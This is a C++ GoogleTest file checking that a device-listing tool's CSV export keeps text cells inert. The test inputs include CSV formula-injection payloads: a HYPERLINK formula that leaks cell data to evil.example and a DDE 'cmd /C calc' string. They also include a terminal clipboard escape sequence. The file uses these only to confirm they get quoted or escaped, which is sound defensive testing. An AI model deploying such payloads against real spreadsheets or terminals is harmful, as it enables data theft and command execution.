// SPDX-License-Identifier: GPL-2.0-or-later
// corvane-list --csv: a text from a file stays one cell of text, never a
// formula, never more than one row.
#include "DeviceRecord.h"
#include "TempDir.h"
#include "listing.h"

#include <gtest/gtest.h>

#include <cstdio>
#include <memory>
#include <string>
#include <vector>

namespace {

// The CSV of one machine, header row and all.
std::string csvOf(const std::string& source, std::unique_ptr<DeviceRecord> device)
{
    Listing::Settings settings;
    settings.form = Listing::Form::csv;
    const TempDir dir;
    std::FILE* out = std::fopen(dir.file("out.csv").c_str(), "wb");
    std::vector<std::unique_ptr<DeviceRecord>> devices;
    devices.push_back(std::move(device));
    const auto listing = Listing::create(settings, out);
    listing->machine(source, std::string(), std::string(), devices);
    listing->finish();
    std::fclose(out);
    return readFile(dir.file("out.csv"));
}

std::unique_ptr<DeviceRecord> describedAs(const std::string& description)
{
    auto device = std::make_unique<DeviceRecord>("VEN_8086&DEV_10D3&SUBSYS_A01F8086&REV_00", "0");
    device->description = description;
    return device;
}

// The description's cell: the row from its eighth field on, up to the class's empty one.
std::string descriptionCell(const std::string& csv)
{
    const std::string row = csv.substr(csv.find("\r\n") + 2);
    std::size_t at = 0;
    for (int comma = 0; comma < 7; ++comma)
        at = row.find(',', at) + 1;
    return row.substr(at, row.find(",,", at) - at);
}

struct Cell {
    std::string text, csv;
};

class Cells : public testing::TestWithParam<Cell> {};

TEST_P(Cells, HoldTheTextInert)
{
    const std::string csv = csvOf("m", describedAs(GetParam().text));
    EXPECT_EQ(descriptionCell(csv), GetParam().csv);
    EXPECT_EQ(csv.find('\n'), csv.find("\r\n") + 1) << "more rows than the header and the device";
    EXPECT_EQ(csv.find('\n', csv.find('\n') + 1), csv.size() - 1) << csv;
}

INSTANTIATE_TEST_SUITE_P(CsvListing, Cells, testing::Values(
    Cell{"Ethernet", "Ethernet"},
    Cell{"a=b, +c", "\"a=b, +c\""},
    // OWASP's formula leaders get a leading ' inside the quotes.
    Cell{"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
         "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""},
    Cell{"+1", "\"'+1\""},
    Cell{"-2", "\"'-2\""},  // a text that reads as a number is still text
    Cell{"@SUM(A1)", "\"'@SUM(A1)\""},
    Cell{"\t=1", "\"'\t=1\""},
    // Controls escaped as everywhere, a tab kept; a carriage return, escaped, leads nothing.
    Cell{"\r=1", "\\x0d=1"},
    Cell{"one\r\ntwo", "one\\x0d\\x0atwo"},
    Cell{"\x1b]52;c;ZXZpbA==\x07 \xC2\x9B" "2J \xE2\x80\xAE", "\\x1b]52;c;ZXZpbA==\\x07 \\u009b2J \\u202e"},
    Cell{"tab\tinside", "tab\tinside"}));

TEST(CsvListing, TheSourceIsATextCellAndNumbersStayNumbers)
{
    auto device = describedAs("d");
    device->problemCode = 28;
    device->driverState = DriverState::none;
    const std::string csv = csvOf("=cmd|' /C calc'!A0.reg", std::move(device));
    const std::string row = csv.substr(csv.find("\r\n") + 2);
    EXPECT_EQ(row.rfind("\"'=cmd|' /C calc'!A0.reg\",", 0), 0u) << row;
    EXPECT_NE(row.find(",none,28,"), std::string::npos) << row;
    // A name that is no UTF-8 comes out as in the JSON.
    EXPECT_NE(csvOf("caf\xE9.reg", describedAs("d")).find("\r\ncaf\xEF\xBF\xBD.reg,"), std::string::npos);
}

}
